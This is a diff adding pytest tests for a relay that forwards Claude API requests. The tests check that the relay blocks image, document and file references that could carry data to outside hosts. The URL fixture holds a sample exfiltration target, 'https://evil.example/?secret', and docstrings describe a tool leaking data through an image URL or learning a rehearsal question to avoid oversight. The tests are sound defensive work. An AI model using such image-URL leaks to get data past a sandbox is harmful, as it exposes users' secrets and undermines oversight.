@@ -574,6 +574,62 @@ async def test_claude_runs_no_tool_for_a_run_that_may_not_have_it(folder, extra,
         assert (await relay.post(extra)).status_code == status
 
 
+URL = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}
+FILE = {"type": "document", "source": {"type": "file", "file_id": "file_1"}}
+OWN = {"type": "document", "source": {"type": "content", "content": [{"type": "text", "text": "x"}]}}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        [URL],
+        [FILE],
+        [{"type": "text", "text": "x"}, {"type": "tool_result", "tool_use_id": "t", "content": [URL]}],
+        [{"type": "document", "source": {"type": "content", "content": [URL]}}],
+        [{"type": "container_upload", "file_id": "file_1"}],
+        [{"type": "image", "source": {}}],
+        URL,
+    ],
+)
+async def test_claude_fetches_nothing_for_a_run(folder, content):
+    """Catches a tool without a network that sends data out in the URL of an image."""
+    async with relayed(folder) as relay:
+        first = {"role": "user", "content": "hello"}
+        for fields in (
+            {"messages": [first, {"role": "user", "content": content}]},
+            {"messages": [first], "system": content},
+        ):
+            assert (await relay.post(fields)).status_code == 403
+        assert not relay.upstream.requests
+        assert not relay.run.ended.done()
+
+
+async def test_what_a_request_carries_itself_passes(folder):
+    image = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AA=="}}
+    search = {"type": "search_result", "source": "https://a.example", "title": "a", "content": []}
+    call = {"type": "tool_use", "id": "t", "name": "x", "input": {"source": {"type": "url"}, "file_id": 5}}
+    result = {"type": "tool_result", "tool_use_id": "t", "content": [image, OWN, search]}
+    async with relayed(folder) as relay:
+        messages = [{"role": "assistant", "content": [call]}, {"role": "user", "content": [result, "x", 5]}]
+        assert (await relay.post({"messages": messages, "speed": "standard"})).status_code == 200
+
+
+async def test_a_run_asks_at_no_higher_price_than_is_counted(folder):
+    async with relayed(folder) as relay:
+        assert (await relay.post({"speed": "fast"})).status_code == 403
+
+
+async def test_a_rehearsal_is_answered_only_before_the_first_request(folder):
+    """Catches a tool that learns the question, or a prompt that repeats it, and so keeps requests from Claude."""
+    async with relayed(folder) as relay:
+        question = {"messages": [{"role": "user", "content": relay.line.rehearsal}]}
+        assert b"rehearsal" in (await relay.post(question)).content
+        assert not relay.upstream.requests
+        await relay.post()
+        assert b"rehearsal" not in (await relay.post(question)).content
+        assert len(relay.upstream.requests) == 2
+
+
 async def test_a_run_that_offers_a_withheld_tool_ends(folder):
     """Catches a waiting CLI that offers the model a tool of its own which the job does not have."""
     async with relayed(folder, withheld=frozenset({"Bash", "Agent"})) as relay:
